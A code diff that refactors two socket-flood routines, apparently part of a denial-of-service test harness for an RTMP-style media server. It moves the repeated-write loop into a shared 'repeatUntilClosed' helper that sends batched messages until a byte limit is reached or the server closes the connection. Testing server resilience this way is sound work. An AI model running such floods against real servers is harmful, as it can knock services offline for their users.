@@ -112,18 +112,9 @@ export async function abandonedMessageFlood(
     9,
     0,
   ]);
-  const batch = Buffer.concat(Array.from({ length: 7_000 }, () => unit));
-  let bytesSent = 0;
   const setChunkSize = wire(writer, createSetChunkSizeMessage(1));
   await write(socket, setChunkSize);
-  bytesSent += setChunkSize.length;
-  while (bytesSent < maxBytes && !socket.destroyed) {
-    await write(socket, batch);
-    bytesSent += batch.length;
-  }
-  const closedByServer = socket.destroyed;
-  socket.destroy();
-  return { bytesSent, closedByServer };
+  return repeatUntilClosed(socket, unit, setChunkSize.length, maxBytes);
 }
 
 /**
@@ -148,8 +139,21 @@ export async function unreadCommandFlood(
     timestamp: 0,
     payload: encodeCommand({ name: command, transactionId: 2, args }),
   });
-  const batch = Buffer.concat(Array.from({ length: Math.ceil(65_536 / one.length) }, () => one));
-  let bytesSent = connect.length;
+  return repeatUntilClosed(socket, one, connect.length, maxBytes);
+}
+
+/**
+ * Writes `unit` over and over, in batches of about 64 KiB, until `maxBytes` (counting
+ * `alreadySent`) are sent or the server has closed the socket; then closes it.
+ */
+async function repeatUntilClosed(
+  socket: Socket,
+  unit: Buffer,
+  alreadySent: number,
+  maxBytes: number,
+): Promise<AttackResult> {
+  const batch = Buffer.concat(Array.from({ length: Math.ceil(65_536 / unit.length) }, () => unit));
+  let bytesSent = alreadySent;
   while (bytesSent < maxBytes && !socket.destroyed) {
     await write(socket, batch);
     bytesSent += batch.length;
